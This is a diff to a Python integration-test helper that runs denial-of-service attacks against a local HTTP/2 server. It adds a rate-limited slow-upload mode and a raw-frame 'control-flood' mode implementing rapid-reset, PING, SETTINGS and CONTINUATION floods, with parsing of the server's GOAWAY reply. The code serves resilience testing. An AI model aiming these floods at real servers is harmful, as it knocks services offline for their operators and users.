@@ -16,9 +16,15 @@ Used by the attack tests in Tests/IntegrationTests; prints one JSON line with wh
   body-flood:  open CONNECTIONS connections with STREAMS PUT streams each (distinct paths, each
                declaring CONTENT-LENGTH bytes) and send body bytes on every stream as fast as flow
                control lets them, never finishing, for HOLD s; prints how many body bytes the
-               server let in (what it may hold in memory), and how the streams ended.
+               server let in (what it may hold in memory), and how the streams ended. With
+               --rate R, each stream sends at most R bytes a second (slow uploads).
   partial-headers: send a HEADERS frame without END_HEADERS, then nothing (or with --trickle N,
                a 1-byte CONTINUATION every N seconds) for HOLD s; prints when the server closed.
+  control-flood: raw frames as fast as the socket takes them, never reading what comes back
+               until the end: --kind rapid-reset (HEADERS GET + RST_STREAM CANCEL on a new stream,
+               COUNT times), ping (COUNT PINGs), settings (COUNT empty SETTINGS), continuation
+               (one HEADERS without END_HEADERS, then COUNT empty CONTINUATION frames); prints how
+               many frames went out and how the server ended the connection.
   partial-head-h1: HTTP/1.1 over TLS: send the start of a request head, then (with --trickle N)
                one more header byte every N seconds, never the blank line; prints what came back.
 """
@@ -201,7 +207,8 @@ def body_flood(a):
         conns.append({"s": s, "conn": conn, "ids": ids, "sent": {i: 0 for i in ids}, "dead": False})
     print(json.dumps({"event": "opened", "connections": len(conns), "streams": n}), flush=True)
     chunk = b"\xa5" * 16384
-    end = time.time() + a.hold
+    start = time.time()
+    end = start + a.hold
     sel = selectors.DefaultSelector()
     for i, c in enumerate(conns):
         sel.register(c["s"], selectors.EVENT_READ, i)
@@ -215,6 +222,8 @@ def body_flood(a):
                 if str(sid) in out["reset"] or str(sid) in out["status"]:
                     continue
                 left = a.content_length - 1 - c["sent"][sid]  # never the last byte
+                if a.rate > 0:
+                    left = min(left, int(a.rate * (time.time() - start)) - c["sent"][sid])
                 try:
                     w = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size, left, len(chunk))
                 except (h2.exceptions.StreamClosedError, KeyError):
@@ -352,9 +361,74 @@ def partial_head_h1(a):
     return out
 
 
+def control_flood(a):
+    import struct
+
+    def frame(kind, flags, sid, payload=b""):
+        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) + payload
+
+    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0, "sent": 0}
+    s, conn = connect(a)
+    pump(s, conn, out, lambda: True, time.time() + 0.3)
+    s.settimeout(a.timeout)
+    # ':method: GET' (2) ':scheme: https' (7) ':path: /' (4) ':authority' literal (index 1).
+    block = bytes([0x82, 0x87, 0x84, 0x41, 0x09]) + b"cachemesh"
+    batch = []
+    start = time.time()
+    sid = 1
+    if a.kind == "continuation":
+        batch.append(frame(0x1, 0x1, 1, block))
+    for i in range(a.count):
+        if a.kind == "rapid-reset":
+            batch.append(frame(0x1, 0x5, sid, block))
+            batch.append(frame(0x3, 0x0, sid, struct.pack(">I", 8)))
+            sid += 2
+        elif a.kind == "ping":
+            batch.append(frame(0x6, 0x0, 0, struct.pack(">Q", i)))
+        elif a.kind == "settings":
+            batch.append(frame(0x4, 0x0, 0))
+        elif a.kind == "continuation":
+            batch.append(frame(0x9, 0x0, 1))
+        if len(batch) >= 256 or i == a.count - 1:
+            try:
+                s.sendall(b"".join(batch))
+            except socket.timeout:
+                out["stalled"] = True  # the server stopped reading but kept the connection
+                break
+            except (OSError, ssl.SSLError) as e:
+                out["closed"] = f"{type(e).__name__}: {e}"
+                break
+            out["sent"] = i + 1
+            batch = []
+    out["after"] = round(time.time() - start, 2)
+    # What came back: GOAWAY's error code, then EOF.
+    s.settimeout(2)
+    buf = b""
+    try:
+        while len(buf) < 64 << 20:
+            data = s.recv(1 << 20)
+            if not data:
+                out["closed"] = out["closed"] or "eof"
+                break
+            buf += data
+    except socket.timeout:
+        pass  # still open
+    except (OSError, ssl.SSLError) as e:
+        out["closed"] = out["closed"] or f"{type(e).__name__}: {e}"
+    i = 0
+    while i + 9 <= len(buf):
+        length = int.from_bytes(buf[i:i + 3], "big")
+        if buf[i + 3] == 7 and i + 17 <= len(buf):
+            out["goaway"] = int.from_bytes(buf[i + 13:i + 17], "big")
+        i += 9 + length
+    out["wire_bytes"] = len(buf)
+    s.close()
+    return out
+
+
 def main():
     p = argparse.ArgumentParser()
-    p.add_argument("attack", choices=["header-bomb", "stalled-put", "zero-window", "idle-connections", "body-flood", "partial-headers", "partial-head-h1"])
+    p.add_argument("attack", choices=["header-bomb", "stalled-put", "zero-window", "idle-connections", "body-flood", "partial-headers", "partial-head-h1", "control-flood"])
     p.add_argument("--host", default="127.0.0.1")
     p.add_argument("--port", type=int, required=True)
     p.add_argument("--ca", required=True)
@@ -371,10 +445,13 @@ def main():
     p.add_argument("--hold", type=float, default=10)
     p.add_argument("--trickle", type=float, default=0, help="stalled-put: then one byte every N seconds")
     p.add_argument("--connections", type=int, default=100)
+    p.add_argument("--rate", type=float, default=0, help="body-flood: bytes a second per stream at most (0: no limit)")
+    p.add_argument("--kind", default="rapid-reset", choices=["rapid-reset", "ping", "settings", "continuation"])
+    p.add_argument("--count", type=int, default=10000)
     p.add_argument("--seed", type=int, default=0, help="body-flood: offsets the streams' paths")
     a = p.parse_args()
     out = {"header-bomb": header_bomb, "stalled-put": stalled_put, "zero-window": zero_window, "idle-connections": idle_connections,
-           "body-flood": body_flood, "partial-headers": partial_headers, "partial-head-h1": partial_head_h1}[a.attack](a)
+           "body-flood": body_flood, "partial-headers": partial_headers, "partial-head-h1": partial_head_h1, "control-flood": control_flood}[a.attack](a)
     print(json.dumps(out))
 
 
